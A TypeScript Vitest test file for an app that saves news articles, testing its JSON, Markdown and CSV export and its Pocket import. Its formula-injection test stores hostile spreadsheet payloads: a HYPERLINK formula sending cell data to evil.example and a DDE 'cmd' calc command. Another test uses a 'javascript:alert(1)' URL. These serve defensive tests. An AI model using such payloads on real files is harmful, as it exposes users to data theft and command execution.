import { readFileSync } from 'node:fs';
import type { DBCore, Middleware } from 'dexie';
import { afterEach, describe, expect, it } from 'vitest';
import { baghdad, recipe, tehran } from '../../tests/fixtures/store/articles';
import { archive, getArticleByUrl, listArticles, saveArticle, searchArticles, setRead, setTags } from './articles';
import { mergeActors, renameActor, setNote } from './cards';
import Papa from 'papaparse';
import type { DramatisDB } from './db';
import { ImportError, QuotaError } from './errors';
import { exportAll, exportCsv, exportMarkdown, importAll } from './export-import';
import { importPocket, prepareImport } from './import-file';
import { parsePocket } from './pocket';
import { getSettings, setSetting, setSiteEnabled } from './settings';
import { testDb } from './test-db';

const fixture = (name: string) => readFileSync(new URL(`../../tests/fixtures/store/${name}`, import.meta.url), 'utf8');

let db: DramatisDB;
let other: DramatisDB | undefined;
afterEach(async () => {
  await db?.delete();
  await other?.delete();
  other = undefined;
});

async function everything(d: DramatisDB) {
  return {
    articles: await d.articles.orderBy('id').toArray(),
    cards: await d.cards.orderBy('id').toArray(),
    corrections: await d.corrections.orderBy('id').toArray(),
    settings: await d.settings.orderBy('key').toArray(),
  };
}

/**
 * The same data with the ids the database assigns left out: articles by URL, card roles by their article's URL,
 * cards by key, corrections in their order (an import never keeps the file's ids; it re-points the references).
 */
async function content(d: DramatisDB) {
  const all = await everything(d);
  const urlOf = new Map(all.articles.map((a) => [a.id, a.url]));
  return {
    articles: all.articles.map(({ id: _id, ...a }) => a).sort((x, y) => x.url.localeCompare(y.url)),
    cards: all.cards
      .map(({ id: _id, ...c }) => ({ ...c, roles: c.roles.map(({ articleId, ...r }) => ({ ...r, article: urlOf.get(articleId) })) }))
      .sort((x, y) => x.key.localeCompare(y.key)),
    corrections: all.corrections.map(({ id: _id, ...c }) => c),
    settings: all.settings,
  };
}

async function seeded() {
  db = testDb();
  const a = (await saveArticle(db, baghdad)).id;
  const b = (await saveArticle(db, tehran)).id;
  const c = (await saveArticle(db, recipe)).id;
  await setRead(db, c);
  await setTags(db, a, ['iraq']);
  await archive(db, b);
  await setNote(db, 'person:mike pompeo', 'Note with "quotes", commas\nand a line break.');
  await renameActor(db, 'place:tehran', 'Teheran (Tehran)');
  await mergeActors(db, 'person:mike pompeo', ['person:adel abdul mahdi']);
  await setSetting(db, 'lookup', true);
  await setSiteEnabled(db, 'bbc.co.uk', false);
  return { a, b, c };
}

describe('exportAll / importAll', () => {
  it('export -> wipe -> import gives identical data (ids assigned here, references re-pointed; the lookup stays off)', async () => {
    await seeded();
    const before = await content(db);
    const file = JSON.stringify(await exportAll(db));
    // A cleared database (its key generators go on from where they were): the ids differ, the content must not.
    await Promise.all(db.tables.map((t) => t.clear()));
    const plan = prepareImport(file);
    expect(plan.notes).toEqual([expect.stringMatching(/^The Wikipedia lookup is on in this file; here it stays off/)]);
    const progress: number[] = [];
    const result = await importAll(db, file, (done) => progress.push(done));
    const after = await content(db);
    expect(after).toEqual({ ...before, settings: before.settings.filter((s) => s.key !== 'lookup') });
    expect((await getSettings(db)).lookup).toBe(false);
    expect(Math.min(...(await db.articles.toCollection().primaryKeys()))).toBeGreaterThan(3);
    expect(result).toEqual({ articles: { added: 3, updated: 0 }, cards: { added: 5, updated: 0 }, corrections: 2, settings: 1, history: { added: 0, updated: 0 } });
    expect(progress.at(-1)).toBe(3 + 5 + 2 + 1);
    expect(await searchArticles(db, 'militias')).toHaveLength(1);
  });

  it('has the versioned envelope', async () => {
    db = testDb();
    const out = await exportAll(db, new Date('2026-01-02T03:04:05Z'));
    expect(out).toEqual({ format: 'dramatis', version: 1, exportedAt: '2026-01-02T03:04:05.000Z', articles: [], cards: [], corrections: [], settings: [], history: [] });
  });

  it('importing into a database that has the same articles merges by URL (no duplicates, tags joined)', async () => {
    await seeded();
    const file = await exportAll(db);
    other = testDb();
    const x = await saveArticle(other, { ...baghdad, tags: ['mine'] });
    await setNote(other, 'person:mike pompeo', 'My own note.');
    const result = await importAll(other, file);
    expect(result.articles).toEqual({ added: 2, updated: 1 });
    expect(await other.articles.count()).toBe(3);
    const merged = await other.articles.get(x.id);
    expect(merged!.tags.sort()).toEqual(['iraq', 'mine']);
    const pompeo = await other.cards.where('key').equals('person:mike pompeo').first();
    expect(pompeo!.note).toBe('My own note.\n\nNote with "quotes", commas\nand a line break.');
    // roles point at the articles' ids in THIS database
    const ids = new Set((await other.articles.toArray()).map((a) => a.id));
    expect(pompeo!.roles.every((r) => ids.has(r.articleId))).toBe(true);
  });

  it.each([
    ['not JSON', '{"format": "dramatis", ', /not valid JSON/],
    ['a foreign JSON file', JSON.stringify({ name: 'my-package', version: '1.0.0' }), /not a Dramatis export/],
    ['an array', '[]', /not a Dramatis export/],
    ['a future version', JSON.stringify({ format: 'dramatis', version: 2 }), /has version 2; this version of Dramatis reads version 1/],
    ['missing tables', JSON.stringify({ format: 'dramatis', version: 1, exportedAt: 'x' }), /damaged: articles: /],
  ])('rejects %s with a clear message and changes nothing', async (_, text, message) => {
    await seeded();
    const before = await everything(db);
    const error = await importAll(db, text).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ImportError);
    expect((error as Error).message).toMatch(message);
    expect((error as Error).message).toMatch(/Nothing was imported\.$/);
    expect(await everything(db)).toEqual(before);
  });

  it('skips a bad record deep inside, naming it in the preview, and imports the good ones', async () => {
    await seeded();
    const file = await exportAll(db);
    other = testDb();
    const bad = structuredClone(file);
    (bad.articles[2] as any).url = 'javascript:alert(1)';
    const plan = prepareImport(JSON.stringify(bad));
    expect(plan.skipped).toEqual([{ where: 'articles[2]', reason: 'url: not an http(s) URL' }]);
    await importAll(other, bad);
    expect(await other.articles.count()).toBe(2);
    // The skipped article's roles do not come with its cards.
    const ids = new Set(await other.articles.toCollection().primaryKeys());
    for (const card of await other.cards.toArray()) expect(card.roles.every((r) => ids.has(r.articleId))).toBe(true);
  });

  it('a quota error in the middle of an import leaves nothing and throws QuotaError', async () => {
    await seeded();
    const file = await exportAll(db);
    other = testDb();
    let writes = 0;
    const fail: Middleware<DBCore> = {
      stack: 'dbcore',
      name: 'quota-simulator',
      create: (down) => ({
        ...down,
        table: (name) => {
          const t = down.table(name);
          return name !== 'cards' ? t : { ...t, mutate: (req) => (++writes >= 3 ? Promise.reject(new DOMException('full', 'QuotaExceededError')) : t.mutate(req)) };
        },
      }),
    };
    other.use(fail);
    await expect(importAll(other, file)).rejects.toBeInstanceOf(QuotaError);
    expect(await other.articles.count()).toBe(0);
    expect(await other.cards.count()).toBe(0);
  });
});

describe('exportMarkdown / exportCsv', () => {
  it('writes the reading list and archive as Markdown', async () => {
    db = testDb();
    await saveArticle(db, { ...baghdad, title: 'Pompeo [exclusive] in *Baghdad*' });
    const b = await saveArticle(db, tehran);
    await archive(db, b.id);
    const md = await exportMarkdown(db, new Date('2026-01-01T00:00:00Z'));
    expect(md).toBe(
      [
        '# Dramatis reading list',
        '',
        'Exported 2026-01-01T00:00:00.000Z',
        '',
        '## Reading list (1)',
        '',
        '- [Pompeo \\[exclusive\\] in \\*Baghdad\\*](<https://www.example-news.com/world/pompeo-baghdad?id=7>) — Example News · by Jane Reporter · saved 2019-01-09 · unread · 2 claims, 1 from anonymous sources',
        '',
        '## Archive (1)',
        '',
        '- [Pompeo warns Tehran](<https://other.example.org/2019/01/11/pompeo-warns-tehran>) — Other Daily · saved 2019-01-11 · unread · 1 claims, 0 from anonymous sources',
        '',
      ].join('\n'),
    );
  });

  it('Markdown and CSV exports never throw on a stored date a Date cannot hold', async () => {
    db = testDb();
    const { id } = await saveArticle(db, recipe);
    await db.articles.update(id, { savedAt: 1e20 });
    expect(await exportMarkdown(db)).toMatch(/saved unknown date/);
    expect(await exportCsv(db)).toContain(',100000000000000000,');
  });

  it('writes CSV with proper quoting, and reads back through the Pocket importer', async () => {
    db = testDb();
    await saveArticle(db, { ...baghdad, title: 'Quotes, "scare quotes"\nand lines', tags: ['a', 'b c'] });
    const csv = await exportCsv(db);
    expect(csv.split('\r\n')[0]).toBe('title,url,time_added,tags,status,site,byline,published,actors,claims,anonymous_claims');
    expect(csv).toContain('"Quotes, ""scare quotes""\nand lines",https://www.example-news.com/world/pompeo-baghdad?id=7,1547035200,a|b c,unread,Example News,Jane Reporter,2019-01-09T10:00:00Z,4,2,1\r\n');
    expect(Papa.parse<string[]>(csv).data[1][0]).toBe('Quotes, "scare quotes"\nand lines');
    other = testDb();
    expect(await importPocket(other, csv)).toEqual({ added: 1, updated: 0 });
    const [a] = await other.articles.toArray();
    expect([a.title, a.url, a.savedAt, a.tags]).toEqual(['Quotes, "scare quotes"\nand lines', 'https://www.example-news.com/world/pompeo-baghdad?id=7', baghdad.savedAt, ['a', 'b c']]);
  });
});

describe('CSV formula injection', () => {
  it('neutralises cells a spreadsheet would evaluate (=, +, -, @, tab, CR) and reads them back unchanged', async () => {
    db = testDb();
    const titles = ['=HYPERLINK("https://evil.example/?d="&B3,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1+1\nsecond line'];
    for (const [i, title] of titles.entries()) {
      const { id } = await saveArticle(db, { ...recipe, url: `https://cooking.example.net/${i}`, byline: '@handle', savedAt: Date.UTC(2020, 0, 1 + i) });
      await db.articles.update(id, { title }); // as stored by any path (saveArticle trims a leading tab or CR)
    }
    const rows = Papa.parse<string[]>(await exportCsv(db), { skipEmptyLines: true }).data.slice(1);
    for (const row of rows) {
      // No cell of the file starts with a formula character once the CSV quoting is read.
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows.map((r) => r[0]).sort()).toEqual(titles.map((t) => `'${t}`).sort());
    expect(rows.every((r) => r[6] === "'@handle")).toBe(true);
    // The Pocket importer reads a Dramatis CSV back without the apostrophe.
    other = testDb();
    await importPocket(other, await exportCsv(db));
    expect((await other.articles.toArray()).map((a) => a.title).sort()).toEqual([...titles].sort());
  });
});

describe('importPocket', () => {
  it('parses the Pocket CSV export (extra column, quotes, multi-line title, missing tags)', () => {
    expect(parsePocket(fixture('pocket-export.csv'))).toEqual([
      { url: 'https://www.example-news.com/world/pompeo-baghdad?id=7&utm_source=pocket', title: 'Pompeo makes surprise visit to Baghdad', timeAdded: 1547031600, tags: ['iraq', 'Diplomacy'], status: 'unread' },
      { url: 'https://blog.example.org/quotes#intro', title: 'Quotes, "scare quotes" and commas', timeAdded: 1546300800, tags: [], status: 'archive' },
      { url: 'http://example.com/two-lines', title: 'A title\non two lines', timeAdded: 1546387200, tags: ['reading', 'long read'], status: 'unread' },
    ]);
  });

  it('parses the older Pocket HTML export', () => {
    expect(parsePocket(fixture('pocket-export.html'))).toEqual([
      { url: 'https://www.example-news.com/world/pompeo-baghdad?id=7', title: 'Pompeo makes surprise visit to Baghdad', timeAdded: 1547031600, tags: ['iraq', 'middle east'], status: 'unread' },
      { url: 'https://food.example.net/caf%C3%A9?utm_campaign=x', title: 'Café culture & the "flat white" of \'22', timeAdded: 1546300800, tags: [], status: 'unread' },
      { url: 'https://science.example.com/mars', title: 'Water on Mars?', timeAdded: 1546387200, tags: ['space'], status: 'archive' },
    ]);
  });

  it('is lenient about column order and missing optional columns', () => {
    expect(parsePocket('status,url\r\narchive,https://a.example/x\r\n')).toEqual([
      { url: 'https://a.example/x', title: '', timeAdded: null, tags: [], status: 'archive' },
    ]);
  });

  it('merges by URL with what is already saved and keeps the rest', async () => {
    db = testDb();
    const x = await saveArticle(db, baghdad);
    const progress: [number, number][] = [];
    expect(await importPocket(db, fixture('pocket-export.csv'), (d, t) => progress.push([d, t]))).toEqual({ added: 2, updated: 1 });
    expect(progress).toEqual([[3, 3]]);
    const saved = await db.articles.get(x.id);
    expect(saved!.tags).toEqual(['iraq', 'diplomacy']);
    expect(saved!.analysis).not.toBeNull();
    const quotes = await db.articles.where('url').equals('https://blog.example.org/quotes').first();
    expect([quotes!.archived, quotes!.read, quotes!.savedAt, quotes!.text]).toEqual([1, 1, 1546300800000, '']);
    expect((await listArticles(db)).map((a) => a.title)).toEqual(['Pompeo makes surprise visit to Baghdad', 'A title\non two lines']);
    expect(await searchArticles(db, 'scare')).toHaveLength(1);
  });

  it('skips bad rows with their reasons (the preview shows them) and keeps the good ones', () => {
    const plan = prepareImport('title,url,time_added\nok,https://a.example/,1546300800\nbad,notaurl,\nlater,https://b.example/,yesterday\n');
    expect(plan.source === 'pocket' && plan.items.map((i) => i.url)).toEqual(['https://a.example/']);
    expect(plan.skipped).toEqual([
      { where: 'row 3', reason: 'url: not an http(s) URL ("notaurl")' },
      { where: 'row 4', reason: expect.stringMatching(/^timeAdded: .*\("https:\/\/b\.example\/"\)$/) },
    ]);
  });

  it.each([
    ['an empty file', '', /empty/],
    ['a CSV without a url column', 'name,email\nBob,bob@example.com\n', /no "url" column/],
    ['only bad rows', 'title,url\nbad,notaurl\n', /Nothing in this file can be imported \(row 2: url: not an http\(s\) URL/],
    ['an unclosed quote', 'title,url\n"oops,https://a.example/\n', /damaged/],
    ['HTML without links', '<html><body><p>hello</p></body></html>', /No saved links/],
  ])('rejects %s and changes nothing', async (_, text, message) => {
    db = testDb();
    await saveArticle(db, recipe);
    const before = await everything(db);
    const error = await importPocket(db, text).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ImportError);
    expect((error as Error).message).toMatch(message);
    expect(await everything(db)).toEqual(before);
  });
});

describe('import: roles of articles missing from the export', () => {
  it('are dropped: an id in the file means nothing in this database', async () => {
    db = testDb();
    const a = (await saveArticle(db, baghdad)).id; // 1
    const b = (await saveArticle(db, tehran)).id; // 2
    // An older database: tehran deleted before deletes took its roles off the cards.
    await db.articles.delete(b);
    const exported = JSON.parse(JSON.stringify(await exportAll(db)));
    other = testDb();
    await saveArticle(other, recipe); // id 1
    await saveArticle(other, { ...recipe, url: 'https://y.example/2' }); // id 2
    await importAll(other, exported);
    const imported = (await getArticleByUrl(other, baghdad.url))!.id;
    expect([a, b, imported]).toEqual([1, 2, 3]);
    const pompeo = await other.cards.where('key').equals('person:mike pompeo').first();
    expect(pompeo!.roles.map((r) => [r.role, r.articleId])).toEqual([['Secretary of State', 3]]);
    // Into an empty database too: article 2 is not in the file, so its role goes.
    await other.delete();
    other = testDb();
    await importAll(other, exported);
    const again = await other.cards.where('key').equals('person:mike pompeo').first();
    expect(again!.roles.map((r) => [r.role, r.articleId])).toEqual([['Secretary of State', 1]]);
  });
});
